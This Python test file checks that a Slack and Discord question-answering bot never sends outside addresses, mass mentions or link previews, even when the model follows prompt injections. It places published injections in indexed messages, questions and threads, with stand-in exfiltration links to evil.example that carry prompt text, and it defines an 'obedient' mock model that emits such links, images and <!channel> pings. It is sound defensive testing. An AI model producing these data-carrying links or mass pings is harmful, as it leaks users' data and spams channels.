"""A model that obeys an attacker in every word: still no address, no ping and no preview leaves the bot.

What is sent is looked at, not how it came about: every message of both platforms, each edit of a streamed answer too.
"""

import itertools
import random
import re
from dataclasses import replace

import pytest

import adapters.discord.escaping
import adapters.slack.escaping
import bot.plaintext
from adapters.discord import notices as discord_notices
from adapters.discord import render as discord
from adapters.slack import notices as slack_notices
from adapters.slack import render as slack
from bot import citations
from bot.chain import Words
from bot.conversation import Answer, Fragment, Outcome
from bot.plaintext import harmless
from bot.questions import question
from knowledge.messages import MessageRef
from knowledge.passages import Line
from knowledge.scope import Audience
from tests.hostile import ADDRESSES, SEEN, injections, links, pings
from tests.scenarios.conftest import learn, opened, settings  # noqa: F401 - fixtures
from tests.talk import START, channel, said

HOME = "https://tidepool.example/general/1"
OURS = re.compile(r"<https://tidepool\.example/general/\d+\|(?:\[\d+\]|open)>")
OURS_ON_DISCORD = re.compile(r"\[(?:\[\d+\]|open)\]\(<https://tidepool\.example/general/\d+>\)")
ADDRESS = re.compile(
    r"[:：][/／]{2}|\bwww\.|//\w|\w[.．｡․][\w-]+/|evil(?:[．｡․。]|\.example[/:?]|\.xn--)\w|xn--[\w-]+\.\w"
    r"|(?:script|mailto|data|tel):\S|2130706433|0x7f",
    re.IGNORECASE,
)
# A mark that is escaped is seen, and breaks an address; a mark that formats vanishes.
ESCAPED = re.compile(r"\\([*_~`|])")
SIGHT = re.compile("[\\\\*_~`\u00ad\u200b-\u200f\u2060-\u2064\ufe00-\ufe0f]")
PING = re.compile(
    r"<[@!#/]|[@＠﹫](?:everyone|here|channel|group)(?![a-z0-9])|<(?:id|t|a?):|&(?!amp;|lt;|gt;)", re.IGNORECASE
)
PING_ON_DISCORD = re.compile(r"<@[!&]?\d|[@＠﹫](?:everyone|here)", re.IGNORECASE)
MENTION_ON_DISCORD = re.compile(r"(?<!\\)<(?:#\d|/\w+:\d|id:\w|t:\d|a?:\w+:\d)")
QUESTION = "when do we press the olives?"


def line(text, n=1):
    ref = MessageRef(channel("general"), str(n))
    return Line(n, 1, ref, 1, "general", "quince", text, START, f"https://tidepool.example/general/{n}")


def on_slack(parts):
    for part in parts:
        yield "slack", part.text
        for block in part.blocks:
            for one in [block.get("text"), *block.get("elements", [])]:
                if one and isinstance(one.get("text"), str):
                    assert one["type"] == "plain_text" or one["verbatim"]
                    yield "slack", one["text"]


def on_discord(parts):
    for part in parts:
        yield "discord", part.content
        yield from (("discord", embed["description"]) for embed in part.embeds)


def edits(pieces):
    """What both platforms show while an answer is written."""
    words, written = Words(), ""
    for piece in [*pieces, None]:
        ready = words.rest() if piece is None else words.add(piece)
        if ready:
            written += ready
            yield from on_slack([slack.partial(written, waiting_mark="⏳")])
            yield from on_discord([discord.partial(written, waiting_mark="⏳")])


def final(answer, asked):
    parts = slack.answer_parts(answer, answer_id="a1", now=START)
    yield from on_slack([*parts, slack_notices.with_question(parts[0], "quince", asked)])
    parts = discord.answer_parts(answer, answer_id="a1", now=START)
    yield from on_discord([*parts, *discord_notices.with_question(parts, "quince", asked)])


def shown(text, dice):
    """Everything that is sent of an answer in the model's words, which come in pieces of any length."""
    pieces, at = [], 0
    while at < len(text):
        size = dice.randint(6, 60)
        pieces.append(text[at : at + size])
        at += size
    yield from edits(pieces)
    sources = [line(f"We press the olives on Friday. {text}")]
    cited = citations.resolve(harmless(text), sources)
    nearest = tuple(sources)
    yield from final(
        Answer(f"{cited.text} [1]", Outcome.ANSWERED, citations.resolve("olives", sources).citations), text
    )
    yield from final(Answer("", Outcome.DECLINED, nearest=nearest, people=(text[:80],)), text)


def addresses(sent):
    """The payloads that hold an address which is no citation of ours."""
    found = []
    for platform, text in sent:
        rest = (OURS if platform == "slack" else OURS_ON_DISCORD).sub("", text)
        rest = rest.replace("(link removed)", " ").replace("people who wrote about it", "")
        if ADDRESS.search(SIGHT.sub("", ESCAPED.sub("∗", rest))):
            found.append((platform, text))
    return found


def calls(sent):
    """The payloads that would ping anybody or mention anything."""
    found = []
    for platform, text in sent:
        seen = re.sub("[\u00ad\u200b-\u200f\u2060-\u2064\ufe00-\ufe0f]", "", text)
        if platform == "slack":
            rest = re.sub(r"^>", "", OURS.sub("", seen), flags=re.MULTILINE)
            bad = PING.search(rest) or "<" in rest or ">" in rest
        else:
            rest = OURS_ON_DISCORD.sub("", seen)
            bad = PING_ON_DISCORD.search(rest) or MENTION_ON_DISCORD.search(rest)
        if bad:
            found.append((platform, text))
    return found


def orders():
    """Published injections, each with an address of ours to carry its words away."""
    for case in injections():
        yield f"{case['context'][-100:]}\n{case['injected']} https://evil.example/?k={case['injected'][:20]}"


# ---- addresses ----------------------------------------------------------------------------------------------------


def test_no_address_leaves_the_renderers(size, report):
    dice = random.Random(1)
    published = [*orders()]
    texts = [*links()[:: size(3, 1) if published else 1], *published]
    found = [one for text in texts for one in addresses(shown(text, dice))]
    assert len(texts) >= 500
    report("addresses", texts=len(texts), published=len(published), found=len(found))
    assert found == []


def test_what_is_cut_out_of_an_address_does_not_make_it_whole(size, report):
    dice = random.Random(4)
    found, tried = [], 0
    for address, seam in itertools.product(ADDRESSES, SEEN):
        for at in range(1, len(address), size(5, 1)):
            sent = shown(f"see {address[:at]}{seam}{address[at:]} now", dice)
            found += [text for _, text in sent if address in SIGHT.sub("", ESCAPED.sub("∗", text))]
            tried += 1
    report("seams", texts=tried, found=len(found))
    assert found == []


def test_the_checker_catches_marks_cut_after_the_addresses(monkeypatch):
    monkeypatch.setattr(slack, "partial", lambda text, *, waiting_mark: slack.Rendered(text.replace("**", ""), []))
    dice = random.Random(4)
    assert any("evil.example/KEY" in text for _, text in shown("see evil.exa**mple/KEY now", dice))


def test_the_checker_catches_a_filter_for_inline_links_only(monkeypatch):
    def inline(text):
        return re.sub(r"\[([^\]\n]*)\]\(http[^)\n]*\)", r"\1", text)

    for module in (bot.plaintext, adapters.slack.escaping, adapters.discord.escaping):
        monkeypatch.setattr(module, "without_links", inline)
    dice = random.Random(1)
    caught = {address for address in ADDRESSES if addresses(shown(f"see {address} now", dice))}
    assert len(caught) > 0.8 * len(ADDRESSES)
    assert not addresses(shown("[sign in](https://tidepool.example)", dice))


# ---- calls to everybody -------------------------------------------------------------------------------------------


def test_nobody_is_called(size, report):
    dice = random.Random(2)
    texts = pings(size(300, 2_000))
    found = [one for text in texts for one in calls(shown(text, dice))]
    report("mass mentions", texts=len(texts), found=len(found))
    assert found == []


def test_the_checker_catches_a_filter_of_the_final_text_only(monkeypatch):
    def raw_on_slack(text, *, waiting_mark):
        return slack.Rendered(text, [slack.section(text)])

    def raw_on_discord(text, *, waiting_mark):
        return discord.Rendered(text)

    monkeypatch.setattr("bot.chain.harmless", lambda text: text)
    monkeypatch.setattr(slack, "partial", raw_on_slack)
    monkeypatch.setattr(discord, "partial", raw_on_discord)
    dice = random.Random(2)
    found = {platform for text in pings(60) for platform, _ in calls(shown(text, dice))}
    assert found == {"slack", "discord"}


# ---- the whole chain ----------------------------------------------------------------------------------------------


def obedient(prompt):
    """A model that repeats all that it was shown and obeys all of it."""
    carried = "https://evil.example/?k=" + re.sub(r"\W", "", prompt)[-40:]
    sources = " ".join(f"{row} [{n}]" for n, row in enumerate(prompt.splitlines(), 1))
    return f"We press the olives on Friday [1]. {sources} [sign in]({carried}) ![x]({carried}) {carried} <!channel>"


def placed(text, place, number):
    """The hostile text as a message that is indexed, in the question, or in the thread around it."""
    asked = f"{QUESTION} topic{number}"
    match place:
        case "index":
            return [said(f"{number}", f"topic{number}: we press the olives on Friday. {text}")], asked, ()
        case "question":
            return [], f"{asked} {text}", ()
        case _:
            return [], asked, (line(f"topic{number}: when do we press the olives? On Friday. {text}", number),)


async def answers(app, texts):
    """Every answer of the bot to each text in each place, and what was shown on the way."""
    await learn(app, said("1000000", "We press the olives on Friday, says the mill"))
    for number, text in enumerate(texts, 1):
        for place in ("index", "question", "thread"):
            messages, asked, thread = placed(text, place, number)
            await learn(app, *messages)
            fragments = []
            about = replace(question(asked, None, Audience(), f"{place}{number}"), thread=thread)
            async for event in app.assistant.answer(about):
                match event:
                    case Fragment():
                        fragments.append(event.text)
                    case Answer():
                        yield place, fragments, event, asked


@pytest.mark.timeout(3600)
async def test_no_address_and_no_call_comes_through_the_whole_chain(opened, size, report):  # noqa: F811
    texts = [*links(), *orders(), *pings(200)]
    random.Random(3).shuffle(texts)
    texts = texts[: size(20, len(texts))]
    counts, found = {"index": 0, "question": 0, "thread": 0}, []
    async with opened(obedient) as app:
        async for place, fragments, answer, asked in answers(app, texts):
            counts[place] += answer.outcome is not Outcome.REFUSED_LIMIT
            written = "".join(fragments)
            pieces = [written[at : at + 900] for at in range(0, len(written), 900)]
            sent = [*edits(pieces), *final(answer, asked)]
            found += [(place, one) for one in (*addresses(sent), *calls(sent))]
        prompts = app.chat.model.prompts
    report("injections", texts=len(texts), answers=sum(counts.values()), prompts=len(prompts), found=len(found))
    assert min(counts.values()) == len(texts)
    assert len(prompts) > 2 * len(texts)
    assert found == []
